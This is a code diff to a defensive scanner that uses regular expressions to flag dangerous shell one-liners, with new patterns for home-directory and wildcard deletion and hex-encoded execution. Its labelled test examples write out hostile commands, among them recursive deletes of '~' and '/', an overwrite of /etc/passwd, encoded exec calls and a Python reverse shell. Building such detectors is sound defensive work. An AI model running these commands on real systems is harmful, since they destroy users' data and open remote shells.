@@ -29,7 +29,7 @@ RULES = [
 _Q = r"""(?P<q>['"`])(?P<s>(?:(?!(?P=q)).|\\.)*?)(?P=q)"""
 _SHELL_OUT = (
     re.compile(
-        r"(?:os\.system|os\.popen|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)|commands\.getoutput|pty\.spawn|\bsystem|\bexec(?:Sync)?|\bspawnSync|\bshell_exec|\bpassthru|\bpopen|\bproc_open|IO\.popen|Open3\.\w+|%x|\bqx|child_process\.\w+)\s*[\(\{]?\s*"
+        r"(?:os\.system|os\.popen|os\.execute|io\.popen|subprocess\.(?:run|call|check_call|check_output|Popen|getoutput|getstatusoutput)|commands\.getoutput|pty\.spawn|\bsystem|\bexec(?:Sync)?|\bspawnSync|\bshell_exec|\bpassthru|\bpopen|\bproc_open|IO\.popen|Open3\.\w+|%x|\bqx|child_process\.\w+)\s*[\(\{]?\s*"
         + _Q
     ),
     re.compile(r"(?<![\w$])`(?P<s>[^`]+)`(?P<q>)"),
@@ -41,9 +41,53 @@ _SHELL_OUT_LIST = re.compile(
 _RECURSIVE_DELETE = re.compile(
     r"(?:shutil\.rmtree|\brmtree|\bremove_tree|FileUtils\.(?:rm_rf|rm_r|remove_dir|remove_entry(?:_secure)?|rmtree)|\brimraf(?:\.sync)?|fs\.(?:rmSync|rmdirSync|rm|rmdir|removeSync|remove)\s*(?=\([^)]*recursive)|fse?\.(?:removeSync|remove|emptyDirSync)|Deno\.remove(?=\([^)]*recursive)|rm_rf)\s*\(\s*(?P<q>['\"])(?P<p>[^'\"]*)(?P=q)"
 )
-_RECURSIVE_DELETE_HOME = re.compile(
-    r"(?:rmtree|rm_rf|rmSync|remove_tree)\s*\(\s*(?:os\.path\.expanduser\(\s*['\"]~['\"]\s*\)|Path\.home\(\)|os\.environ\[['\"]HOME['\"]\]|ENV\[['\"]HOME['\"]\]|Dir\.home|os\.homedir\(\)|process\.env\.HOME|\$ENV\{HOME\})\s*[,)]"
+# The home directory, however a language spells it.
+_HOME = (
+    r"(?:(?:[\w.]+\.)?Path\.home\(\)|(?:[\w.]+\.)?Path\(\s*['\"]~['\"]\s*\)\.expanduser\(\)|"
+    r"os\.path\.expanduser\(\s*['\"]~/?['\"]\s*\)|os\.environ\[['\"]HOME['\"]\]|os\.getenv\(\s*['\"]HOME['\"]\s*\)|"
+    r"os\.environ\.get\(\s*['\"]HOME['\"]\s*\)|ENV\[['\"]HOME['\"]\]|Dir\.home|(?:os|require\(\s*['\"](?:node:)?os['\"]\s*\))"
+    r"\.homedir\(\)|process\.env\.HOME|\$ENV\{HOME\}|getenv\(\s*['\"]HOME['\"]\s*\))"
 )
+_RECURSIVE_DELETE_HOME = re.compile(
+    r"(?:rmtree|rm_rf|rm_r|rmSync|rmdirSync|remove_tree|removeSync|remove|rimraf(?:\.sync)?)\s*\(\s*" + _HOME + r"\s*[,)]"
+)
+# A delete call applied to whatever a listing returns: `[os.remove(f) for f in os.listdir('.')]`,
+# `unlink glob "*"`, `array_map("unlink", glob("*"))`, `FileUtils.rm_rf(Dir.glob("*"))`.
+_DELETE_CALL = re.compile(
+    r"\b(?:os\.remove|os\.unlink|unlink(?:Sync)?|rmtree|rm_rf|rm_r|rmSync|rmdirSync|File\.delete|FileUtils\.rm\w*|"
+    r"remove_tree|\.unlink|shutil\.rmtree|fs\.rm)\b|['\"]unlink['\"]"
+)
+_LISTING = re.compile(
+    r"(?:\bglob(?:\.i?glob)?|Dir\.glob|\bDir)\s*[(\[]\s*['\"](?P<g>[^'\"]*)['\"]"
+    r"|\bglob\s+['\"](?P<g2>[^'\"]*)['\"]"
+    r"|<(?P<g3>[^<>\s]*\*[^<>\s]*)>"
+    r"|\b(?:listdir|scandir|walk|readdirSync|readdir|Dir\.entries|Dir\.children)\s*\(\s*(?:['\"](?P<d>[^'\"]*)['\"])?\s*\)"
+    r"|(?P<home>" + _HOME + r")\s*\.\s*(?:rglob|glob|iterdir)\s*\(\s*(?:['\"](?P<g4>[^'\"]*)['\"])?"
+    r"|Path\(\s*['\"](?P<d2>[^'\"]*)['\"]\s*\)\s*\.\s*(?:rglob|glob|iterdir)\s*\(\s*(?:['\"](?P<g5>[^'\"]*)['\"])?"
+    r"|Path\.cwd\(\)\s*\.\s*(?:rglob|glob|iterdir)\s*\(\s*(?:['\"](?P<g6>[^'\"]*)['\"])?"
+)
+
+
+def _listed_places(code: str) -> list:
+    """The places a listing in `code` covers, as paths: `glob('*')` is `*`, `os.listdir('.')` is `./*`,
+    `Path.home().rglob('*')` is `~/*`."""
+    places = []
+    for m in _LISTING.finditer(code):
+        pattern = next((m.group(k) for k in ("g", "g2", "g3") if m.group(k) is not None), None)
+        if pattern is not None:
+            places.append(pattern)
+            continue
+        if m.group("home") is not None:
+            places.append("~/" + (m.group("g4") or "*"))
+        elif m.group("d2") is not None:
+            places.append(m.group("d2").rstrip("/") + "/" + (m.group("g5") or "*"))
+        elif m.group("g6") is not None or m.group(0).startswith("Path.cwd"):
+            places.append("./" + (m.group("g6") or "*"))
+        else:
+            places.append((m.group("d") or ".").rstrip("/") + "/*")
+    return places
+
+
 _FILE_DELETE = re.compile(
     r"(?:os\.(?:remove|unlink|rmdir)|\bunlink(?:Sync)?|File\.delete|FileUtils\.rm|Path\([^)]*\)\.unlink|fs\.unlinkSync|File::Path)\s*\(\s*(?P<q>['\"])(?P<p>[^'\"]+)(?P=q)"
 )
@@ -52,12 +96,14 @@ _FILE_WRITE = re.compile(
 )
 _FORK = re.compile(r"\bfork\s*\(|\bfork\b")
 _LOOP = re.compile(r"\bwhile\b|\bfor\s*\(\s*;\s*;\s*\)|\bloop\s*\{|\bfork\s+while\b|\buntil\b")
-_EXEC_CALL = re.compile(r"\b(?:exec|eval|Function|instance_eval|class_eval)\s*\(")
+_EXEC_CALL = re.compile(
+    r"\b(?:exec|eval|Function|instance_eval|class_eval|system|popen|execSync|spawnSync|os\.execute|shell_exec|passthru)\s*\("
+)
 _NET_CALL = re.compile(
     r"urlopen|urllib|requests\.(?:get|post)|http\.client|https?\.get|fetch\(|Net::HTTP|open-uri|LWP::|HTTP::Tiny|file_get_contents\(\s*['\"]https?:|socket"
 )
 _DECODE_CALL = re.compile(
-    r"b64decode|base64|decode\(\s*['\"](?:hex|rot13|base64)|codecs\.decode|zlib\.decompress|marshal\.loads|atob\(|Buffer\.from\([^)]*['\"](?:base64|hex)['\"]|unpack\(|MIME::Base64|fromhex"
+    r"b64decode|base64|decode\(\s*['\"](?:hex|rot13|base64)|codecs\.decode|zlib\.decompress|marshal\.loads|atob\(|Buffer\.from\([^)]*['\"](?:base64|hex)['\"]|unpack\(|\bpack\(\s*['\"][Hh]|MIME::Base64|fromhex|hex2bin"
 )
 _SOCKET = re.compile(r"socket|TCPSocket|IO::Socket|net\.connect|fsockopen|/dev/tcp/")
 _SPAWN_SHELL = re.compile(r"/bin/(?:ba)?sh|pty\.spawn|cmd\.exe|\bexec\s*\(\s*['\"](?:/bin/)?(?:ba)?sh|dup2")
@@ -81,6 +127,13 @@ def inline_code(ctx, kind: str, code: str, cmd) -> None:
         ctx.add("oneliner.delete-tree-broad" if broad else "oneliner.delete-tree", cmd, what=p.desc, kind=kind)
     if _RECURSIVE_DELETE_HOME.search(code):
         ctx.add("oneliner.delete-tree-broad", cmd, what="your home directory", kind=kind)
+    if _DELETE_CALL.search(code):
+        listed = [classify(place) for place in _listed_places(code)]
+        broad = next((p for p in listed if delete_level(p, True) == DANGEROUS), None)
+        if broad is not None:
+            ctx.add("oneliner.delete-file-broad", cmd, what=broad.desc, kind=kind)
+        elif listed:
+            ctx.add("oneliner.delete-file", cmd, what=f"the files {listed[0].desc} matches", kind=kind)
     for m in _FILE_DELETE.finditer(code):
         p = classify(m.group("p"))
         broad = delete_level(p, False) == DANGEROUS
@@ -111,10 +164,20 @@ EXAMPLES = [
     ("python3 -c \"import shutil,os; shutil.rmtree(os.path.expanduser('~'))\"", DANGEROUS, "oneliner.delete-tree-broad"),
     ("ruby -e 'FileUtils.rm_rf(\"/\")'", DANGEROUS, "oneliner.delete-tree-broad"),
     ("python3 -c \"import shutil; shutil.rmtree('build')\"", CAUTION, "not oneliner.delete-tree-broad"),
+    ("python3 -c 'import shutil, pathlib; shutil.rmtree(pathlib.Path.home())'", DANGEROUS, "oneliner.delete-tree-broad"),
+    ("node -e \"require('fs').rmSync(require('os').homedir(), {recursive: true})\"", DANGEROUS, "oneliner.delete-tree-broad"),
+    ("perl -MFile::Path=remove_tree -e 'remove_tree($ENV{HOME})'", DANGEROUS, "oneliner.delete-tree-broad"),
+    ("python3 -c 'import pathlib; print(pathlib.Path.home())'", SAFE, "not oneliner.delete-tree-broad"),
     ("python3 -c \"import shutil; shutil.rmtree('build')\"", CAUTION, "oneliner.delete-tree"),
     ("python3 -c \"import shutil; print(shutil.which('ls'))\"", SAFE, "not oneliner.delete-tree"),
     ("python3 -c \"import os; os.remove('/etc/passwd')\"", DANGEROUS, "oneliner.delete-file-broad"),
     ("python3 -c \"import os; os.remove('notes.txt')\"", CAUTION, "not oneliner.delete-file-broad"),
+    ("perl -e 'unlink glob \"*\"'", DANGEROUS, "oneliner.delete-file-broad"),
+    ("python3 -c \"import os; [os.unlink(n) for n in os.listdir()]\"", DANGEROUS, "oneliner.delete-file-broad"),
+    ("ruby -e 'require \"fileutils\"; FileUtils.rm_rf(Dir.glob(\"*\"))'", DANGEROUS, "oneliner.delete-file-broad"),
+    ("php -r 'array_map(\"unlink\", glob(\"*\"));'", DANGEROUS, "oneliner.delete-file-broad"),
+    ("perl -e 'unlink glob \"*.tmp\"'", CAUTION, "not oneliner.delete-file-broad"),
+    ("python3 -c \"import glob; print(glob.glob('*'))\"", SAFE, "not oneliner.delete-file-broad"),
     ("python3 -c \"import os; os.remove('notes.txt')\"", CAUTION, "oneliner.delete-file"),
     ("python3 -c \"import os; print(os.listdir('.'))\"", SAFE, "not oneliner.delete-file"),
     ("node -e \"require('fs').writeFileSync('/etc/passwd', '')\"", DANGEROUS, "oneliner.overwrite-critical"),
@@ -127,6 +190,10 @@ EXAMPLES = [
     ("python3 -c \"import urllib.request; print(urllib.request.urlopen('http://x').read())\"", SAFE, "not oneliner.exec-fetched"),
     ("python3 -c \"import base64; exec(base64.b64decode('cHJpbnQoMSk='))\"", DANGEROUS, "oneliner.exec-encoded"),
     ("python3 -c \"import base64; print(base64.b64decode('cHJpbnQoMSk='))\"", SAFE, "not oneliner.exec-encoded"),
+    ("perl -e 'system(pack(\"H*\", \"6c73\"))'", DANGEROUS, "oneliner.exec-encoded"),
+    ("python3 -c \"import os; os.system(bytes.fromhex('6c73').decode())\"", DANGEROUS, "oneliner.exec-encoded"),
+    ("perl -e 'print pack(\"H*\", \"6869\")'", SAFE, "not oneliner.exec-encoded"),
     ("python3 -c 'import socket,os,pty; s=socket.socket(); s.connect((\"10.0.0.1\",4444)); os.dup2(s.fileno(),0); pty.spawn(\"/bin/sh\")'", DANGEROUS, "oneliner.reverse-shell"),
     ("python3 -c 'import socket; print(socket.gethostname())'", SAFE, "not oneliner.reverse-shell"),
+    ("lua -e 'os.execute(\"rm -rf ~\")'", DANGEROUS, "files.delete-broad"),
 ]
